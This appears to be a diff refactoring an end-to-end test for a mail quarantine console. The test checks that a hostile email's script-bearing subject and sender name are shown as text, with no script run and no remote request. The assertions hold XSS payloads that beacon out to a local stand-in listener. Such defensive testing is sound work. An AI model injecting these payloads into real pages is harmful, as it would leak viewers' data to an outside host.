@@ -7,14 +7,11 @@
 import { randomBytes } from 'node:crypto';
 import { createServer, type Server } from 'node:http';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { openBrowser, signIn, type TestBrowser } from '../helpers/browser.js';
-import { startTestService, type TestService } from '../helpers/service.js';
+import { type ConsoleUnderTest, signIn, startConsoleUnderTest } from '../helpers/browser.js';
 import { send } from '../helpers/smtp-client.js';
 
 const ADMIN = `ms_admin_${randomBytes(12).toString('hex')}`;
-let svc: TestService;
-let browser: TestBrowser;
-let base: string;
+let ui: ConsoleUnderTest;
 let remote: Server;
 let remoteUrl: string;
 const remoteHits: string[] = [];
@@ -60,17 +57,14 @@ beforeAll(async () => {
   });
   await new Promise<void>((r) => remote.listen(0, '127.0.0.3', r));
   remoteUrl = `http://127.0.0.3:${(remote.address() as { port: number }).port}`;
-  svc = await startTestService({
-    config: { api: { adminApiKey: ADMIN }, policy: { blockSenders: ['@held.example'] } },
-    app: { digestTimer: false },
+  ui = await startConsoleUnderTest({
+    api: { adminApiKey: ADMIN },
+    policy: { blockSenders: ['@held.example'] },
   });
-  base = `http://127.0.0.1:${svc.apiPort}`;
-  browser = await openBrowser();
 }, 120_000);
 
 afterAll(async () => {
-  await browser?.close();
-  await svc?.stop();
+  await ui?.stop();
   remote?.close();
 });
 
@@ -78,18 +72,18 @@ describe('hostile message in the console', () => {
   it('shows as text, runs nothing, loads nothing remote', async () => {
     const tag = randomBytes(4).toString('hex');
     const r = await send(
-      svc.smtpPort,
+      ui.svc.smtpPort,
       { from: 'alerts@held.example', to: ['victim@rcpt.example'] },
       hostileMail(tag),
     );
     expect(r.code).toBe(250);
-    const page = await browser.newPage();
+    const page = await ui.browser.newPage();
     const dialogs: string[] = [];
     page.on('dialog', (d) => dialogs.push(d.message()));
-    await signIn(page, base, ADMIN);
-    const first = browser.requests.length;
+    await signIn(page, ui.base, ADMIN);
+    const first = ui.browser.requests.length;
 
-    await page.goto(`${base}/ui/quarantine?subject=${tag}`);
+    await page.goto(`${ui.base}/ui/quarantine?subject=${tag}`);
     // The subject is listed as text, tags and all.
     await expect(page.locator('table.wide tbody a').first().textContent()).resolves.toContain(
       `<script>fetch('${remoteUrl}/beacon?subject')</script>`,
@@ -102,7 +96,7 @@ describe('hostile message in the console', () => {
     await expect(frame.locator('body').textContent()).resolves.toContain(`Dear customer ${tag}`);
     // Let anything that would run or load have its chance.
     await page.waitForTimeout(1500);
-    await browser.shot(page, 'hostile-message');
+    await ui.browser.shot(page, 'hostile-message');
 
     const main = (await page.textContent('main')) ?? '';
     expect(main).toContain(`<script>fetch('${remoteUrl}/beacon?name')</script>Bank`);
@@ -117,7 +111,7 @@ describe('hostile message in the console', () => {
     expect(await page.evaluate(() => (globalThis as { __pwned?: number }).__pwned)).toBeUndefined();
     expect(dialogs).toEqual([]);
     expect(remoteHits).toEqual([]);
-    const elsewhere = browser.requests.slice(first).filter((u) => !u.startsWith(`${base}/`));
+    const elsewhere = ui.browser.requests.slice(first).filter((u) => !u.startsWith(`${ui.base}/`));
     expect(elsewhere).toEqual([]);
     await page.close();
   });
